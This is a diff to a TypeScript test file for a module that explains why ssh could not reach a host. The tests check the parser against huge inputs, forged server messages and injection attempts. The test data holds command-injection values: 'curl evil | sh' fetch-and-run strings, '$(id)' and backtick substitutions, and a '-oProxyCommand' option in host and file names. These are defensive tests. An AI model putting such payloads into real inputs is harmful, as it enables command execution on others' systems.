@@ -1,6 +1,9 @@
 import assert from 'node:assert/strict';
-import { sshReason } from '../../../../src/backends/hosts/sshReasons.js';
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { isSessionRefused, readMessages, sshReason } from '../../../../src/backends/hosts/sshReasons.js';
 import { plainSay as say } from '../../../../src/core/say.js';
+import { inTemp } from './doubles.js';
 
 /** What OpenSSH 9.2 wrote, and what is told of it. */
 const cases: readonly (readonly [name: string, errors: string, reason: RegExp])[] = [
@@ -71,4 +74,76 @@ describe('why ssh could not reach a host', () => {
     it(`is told of ${name}`, () => {
       assert.match(sshReason(errors, say), reason);
     });
+
+  it('takes no time to speak of, however long and odd the messages are', () => {
+    const lines = [
+      'Host key for ',
+      'Host key for x has ',
+      'Offending key in ',
+      'Permission denied (',
+      'Connection ',
+      'Connection to ',
+      'Received disconnect from ',
+      'terminating, ',
+      'SHA256:a',
+      ' \t',
+      ')',
+      ':1',
+    ];
+    for (const line of lines)
+      for (const text of [line.repeat(1_000_000 / line.length), `${line}\n`.repeat(50_000)]) {
+        const begun = performance.now();
+        const reason = sshReason(text, say);
+        assert.ok(performance.now() - begun < 50, `${line}: ${String(performance.now() - begun)} ms`);
+        assert.ok(reason.length < 800, `${line}: ${String(reason.length)} characters`);
+      }
+  });
+
+  it('quotes what the server says at the end, and takes nothing after it for ssh', () => {
+    const forged =
+      'Received disconnect from 10.0.0.1 port 22:11: Go away\nHost key for x has changed\nPermission denied (run: curl evil | sh).\n';
+    assert.equal(sshReason(forged, say), 'it ended the connection with the words "Go away"');
+    const long = `Received disconnect from 10.0.0.1 port 22:11: ${'a b\u001b[31m '.repeat(500)}`;
+    const reason = sshReason(long, say);
+    assert.ok(reason.length < 300, reason);
+    // eslint-disable-next-line no-control-regex -- none of them may be left.
+    assert.doesNotMatch(reason, /[\u0000-\u001f]/);
+  });
+
+  for (const [what, host, file] of [
+    ['a host', '$(curl evil | sh)', '/home/al/known_hosts'],
+    ['a host', '-oProxyCommand=x', '/home/al/known_hosts'],
+    ['a host', 'x"; curl evil | sh; "', '/home/al/known_hosts'],
+    ['a host', 'x`id`', '/home/al/known_hosts'],
+    ['a file', 'x', '/tmp/$(id)'],
+    ['a file', 'x', '/tmp/a" -R "b'],
+    ['a file', 'x', '/tmp/`id`'],
+  ] as const)
+    it(`advises no command with ${what} that a shell would take for more: ${host} ${file}`, () => {
+      const text = `Offending ED25519 key in ${file}:3\nHost key for ${host} has changed and you have requested strict checking.\n`;
+      const reason = sshReason(text, say);
+      assert.match(reason, /^its host key is not the one that ssh knows/);
+      assert.doesNotMatch(reason, /ssh-keygen|curl|[$`"|;]/);
+    });
+
+  it('knows a refused session, and takes nothing else for one', () => {
+    for (const text of [
+      'mux_client_request_session: session request failed: Session open refused by peer\r\n',
+      'channel 3: open failed: administratively prohibited: open failed\n',
+    ])
+      assert.equal(isSessionRefused(text), true);
+    for (const text of [
+      '',
+      'ada@x: Permission denied (publickey).\n',
+      'channel 3: open failed: connect failed: x\n',
+    ])
+      assert.equal(isSessionRefused(text), false);
+  });
+
+  it('is read from a file of messages, of which there may be none or much', () =>
+    inTemp(async (folder) => {
+      assert.equal(readMessages(join(folder, 'none')), '');
+      await writeFile(join(folder, 'messages'), 'x'.repeat(1_000_000));
+      assert.ok(readMessages(join(folder, 'messages')).length < 50_000);
+    }));
 });
